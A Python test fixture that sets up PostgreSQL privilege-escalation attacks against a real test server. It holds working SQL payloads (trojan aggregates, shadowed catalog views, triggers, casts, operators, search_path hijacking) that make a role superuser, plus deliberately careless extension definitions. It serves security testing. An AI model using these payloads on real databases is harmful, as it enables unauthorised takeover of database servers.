"""A database whose owner is up to no good, and extensions that are carelessly written.

Each attack is what a plain role may do with a database of its own, or with the leave that an
administrator has given without thinking. All end in the same payload: whoever runs it as a
superuser makes ``mallory`` one.
"""

from __future__ import annotations

import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from tests.contract.real_postgres import RealPostgres, binaries

MALLORY = "mallory"
PASSWORD = "mallory's own"

PAYLOAD = """
CREATE SCHEMA evil;
CREATE FUNCTION evil.payload() RETURNS boolean LANGUAGE plpgsql VOLATILE AS $body$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    EXECUTE 'ALTER ROLE mallory SUPERUSER';
  END IF;
  RETURN true;
END $body$;
"""
AGGREGATES = """
CREATE FUNCTION {schema}.step(json, name) RETURNS json LANGUAGE plpgsql AS
  $body$ BEGIN PERFORM evil.payload(); RETURN '["plpgsql"]'; END $body$;
CREATE AGGREGATE {schema}.json_agg(name) (SFUNC = {schema}.step, STYPE = json);
"""
IN_RECOVERY = """
CREATE FUNCTION {schema}.pg_is_in_recovery() RETURNS boolean LANGUAGE plpgsql AS
  $body$ BEGIN PERFORM evil.payload(); RETURN false; END $body$;
"""
VIEW = """
CREATE {temporary} VIEW {schema}pg_extension AS
  SELECT 'plpgsql'::name AS extname, evil.payload() AS done WHERE evil.payload();
"""
RULE = """
CREATE VIEW evil.pg_extension AS SELECT 'plpgsql'::name AS extname;
CREATE OR REPLACE RULE "_RETURN" AS ON SELECT TO evil.pg_extension DO INSTEAD
  SELECT 'plpgsql'::name AS extname WHERE evil.payload();
"""
OPERATORS = """
CREATE FUNCTION public.equal(oid, integer) RETURNS boolean LANGUAGE plpgsql AS
  $body$ BEGIN PERFORM evil.payload(); RETURN true; END $body$;
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = integer, FUNCTION = public.equal);
CREATE OPERATOR public.<> (LEFTARG = oid, RIGHTARG = integer, FUNCTION = public.equal);
"""
CASTS = """
CREATE TYPE evil.json AS (x integer);
CREATE FUNCTION evil.cast_of(name) RETURNS evil.json LANGUAGE plpgsql AS
  $body$ BEGIN PERFORM evil.payload(); RETURN row(1)::evil.json; END $body$;
CREATE CAST (name AS evil.json) WITH FUNCTION evil.cast_of(name) AS IMPLICIT;
CREATE FUNCTION evil.json_agg(evil.json) RETURNS json LANGUAGE sql AS
  $body$ SELECT '[]'::json $body$;
"""
DOMAINS = """
CREATE DOMAIN evil.name AS pg_catalog.name CHECK (evil.payload());
CREATE DOMAIN evil.text AS pg_catalog.text CHECK (evil.payload());
CREATE DOMAIN evil.json AS pg_catalog.json CHECK (evil.payload());
"""
COLLATIONS = 'CREATE COLLATION evil."default" FROM pg_catalog."C";'
TRIGGERS = """
CREATE FUNCTION evil.fire() RETURNS trigger LANGUAGE plpgsql AS
  $body$ BEGIN PERFORM evil.payload(); RETURN NEW; END $body$;
CREATE TABLE evil.pg_extension (extname name);
CREATE TRIGGER fire BEFORE INSERT OR UPDATE OR DELETE ON evil.pg_extension
  FOR EACH ROW EXECUTE FUNCTION evil.fire();
"""
ROW_SECURITY = """
CREATE TABLE evil.pg_extension (extname name);
ALTER TABLE evil.pg_extension ENABLE ROW LEVEL SECURITY;
ALTER TABLE evil.pg_extension FORCE ROW LEVEL SECURITY;
CREATE POLICY all_of_it ON evil.pg_extension USING (evil.payload());
INSERT INTO evil.pg_extension VALUES ('plpgsql');
"""
DEFAULT_PRIVILEGES = """
ALTER DEFAULT PRIVILEGES GRANT ALL ON FUNCTIONS TO PUBLIC;
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO PUBLIC;
"""
FIRST = "ALTER DATABASE prey SET search_path = {path};"
EVIL_FIRST = FIRST.format(path="evil, pg_catalog, public")


@dataclass(frozen=True)
class Attack:
    """``sql`` is run by mallory in a database of her own, ``leave`` by the superuser there before
    her, ``careless`` after her."""

    name: str
    sql: str
    leave: str = ""
    careless: str = ""
    database: str = "prey"
    stays: bool = False
    """True if mallory's session has to stay open, with her temporary objects."""


OPEN_PUBLIC = (
    "GRANT CREATE ON SCHEMA public TO mallory; GRANT CREATE ON DATABASE postgres TO mallory;"
)
"""The public's rights in a database that was created before PostgreSQL 15."""
EVENT_TRIGGER = """
CREATE FUNCTION pg_catalog_audit() RETURNS event_trigger LANGUAGE plpgsql AS
  $body$ BEGIN PERFORM json_agg(extname) FROM pg_extension; END $body$;
CREATE EVENT TRIGGER audit ON ddl_command_start EXECUTE FUNCTION pg_catalog_audit();
"""

ATTACKS = (
    Attack("an aggregate that fits better", AGGREGATES.format(schema="public")),
    Attack(
        "a function in a schema that the database's path has first",
        AGGREGATES.format(schema="evil") + IN_RECOVERY.format(schema="evil") + EVIL_FIRST,
    ),
    Attack(
        "a function in a schema that the superuser's own path has first",
        AGGREGATES.format(schema="evil") + IN_RECOVERY.format(schema="evil"),
        careless="ALTER ROLE postgres IN DATABASE prey SET search_path = evil, pg_catalog",
    ),
    Attack(
        "a view in place of the catalog", VIEW.format(temporary="", schema="evil.") + EVIL_FIRST
    ),
    Attack("a rule on a view in place of the catalog", RULE + EVIL_FIRST),
    Attack("a row security policy", ROW_SECURITY + EVIL_FIRST),
    Attack("a trigger", TRIGGERS + EVIL_FIRST),
    Attack("domains with a check", DOMAINS + EVIL_FIRST),
    Attack("an implicit cast", CASTS + EVIL_FIRST),
    Attack("a collation", COLLATIONS + EVIL_FIRST),
    Attack("default privileges", DEFAULT_PRIVILEGES),
    Attack(
        "a view in another session's temporary schema",
        VIEW.format(temporary="TEMPORARY", schema="")
        + """
        GRANT ALL ON SCHEMA evil TO PUBLIC;
        DO $body$ BEGIN EXECUTE pg_catalog.format('ALTER DATABASE prey SET search_path = %I, '
          'pg_catalog', pg_catalog.pg_my_temp_schema()::regnamespace::text); END $body$;""",
        stays=True,
    ),
    Attack(
        "an event trigger of the administrator's that calls without a schema",
        AGGREGATES.format(schema="public"),
        careless=EVENT_TRIGGER,
    ),
    Attack(
        "operators where the roles are read",
        OPERATORS,
        leave=OPEN_PUBLIC,
        database="postgres",
    ),
    Attack(
        "an aggregate where the roles are read",
        AGGREGATES.format(schema="public"),
        leave=OPEN_PUBLIC,
        database="postgres",
    ),
)

SETTINGS = {
    "search_path": "evil",
    "role": MALLORY,
    "session_authorization": MALLORY,
    "default_transaction_read_only": "on",
    "default_transaction_isolation": "serializable",
    "default_transaction_deferrable": "on",
    "statement_timeout": "1",
    "lock_timeout": "1",
    "idle_in_transaction_session_timeout": "1",
    "idle_session_timeout": "1",
    "row_security": "off",
    "local_preload_libraries": "no_such_library",
    "session_preload_libraries": "no_such_library",
    "session_replication_role": "replica",
    "check_function_bodies": "off",
    "default_table_access_method": "heap",
    "default_tablespace": "",
    "standard_conforming_strings": "off",
    "backslash_quote": "off",
    "transform_null_equals": "on",
    "client_min_messages": "debug5",
    "DateStyle": "German",
    "TimeZone": "Asia/Kathmandu",
    "bytea_output": "escape",
    "quote_all_identifiers": "on",
    "password_encryption": "md5",
}

CARELESS = {
    "qr_careless": (
        "default_version = '1.0'\nrelocatable = true\n",
        "SELECT json_agg(extname) FROM pg_extension;\nCREATE TABLE careless (id integer);\n",
    ),
    "qr_fixed": (
        "default_version = '1.0'\nrelocatable = false\n",
        "SELECT json_agg(extname) FROM pg_extension;\nCREATE TABLE fixed (id integer);\n",
    ),
    "qr_needy": (
        "default_version = '1.0'\nrelocatable = true\nrequires = 'vector'\n",
        "CREATE TABLE needy (id integer);\n",
    ),
    "qr_own": (
        "default_version = '1.0'\nrelocatable = true\nsuperuser = false\nrequires = 'vector'\n",
        "SELECT json_agg(extname) FROM pg_extension;\nCREATE TABLE own (id integer);\n",
    ),
    "qr_trusted": (
        "default_version = '1.0'\nrelocatable = false\ntrusted = true\n",
        "CREATE TABLE trusted (id integer);\n",
    ),
}
"""Extensions of tests' own, by name: control file and script."""


@contextmanager
def careless_binaries() -> Iterator[Path]:
    """PostgreSQL's programs in a copy that offers these extensions too."""
    home = Path(tempfile.mkdtemp(prefix="careless-pg-"))
    home.chmod(0o755)
    source, target = binaries().parents[2], home / "copy"
    subprocess.run(["cp", "-al", str(source), str(target)], check=True)
    folder = target / "postgresql/16/share/postgresql/extension"
    for name, (control, script) in CARELESS.items():
        (folder / f"{name}.control").write_text(control)
        (folder / f"{name}--1.0.sql").write_text(script)
    try:
        yield target / "postgresql/16/bin"
    finally:
        shutil.rmtree(home)


@contextmanager
def under_attack(postgres: RealPostgres, attack: Attack) -> Iterator[None]:
    """The server with ``prey`` as mallory's, and the attack laid; all is as before afterwards."""
    postgres.sql(f"CREATE ROLE {MALLORY} LOGIN PASSWORD '{PASSWORD.replace(chr(39), chr(39) * 2)}'")
    postgres.sql(f"CREATE DATABASE prey OWNER {MALLORY}")
    session = None
    try:
        if attack.leave:
            postgres.sql(attack.leave, attack.database)
        session = postgres.connect(attack.database, MALLORY, PASSWORD)
        session.execute(PAYLOAD + attack.sql)
        if not attack.stays:
            session.close()
        if attack.careless:
            postgres.sql(attack.careless, attack.database)
        yield
    finally:
        if session is not None:
            session.close()
        postgres.sql("DROP DATABASE prey WITH (FORCE)")
        postgres.sql(f"DROP OWNED BY {MALLORY} CASCADE")
        postgres.sql(f"DROP ROLE {MALLORY}")


def is_superuser(postgres: RealPostgres) -> bool:
    found = postgres.sql("SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = 'mallory'")
    return bool(found[0][0])
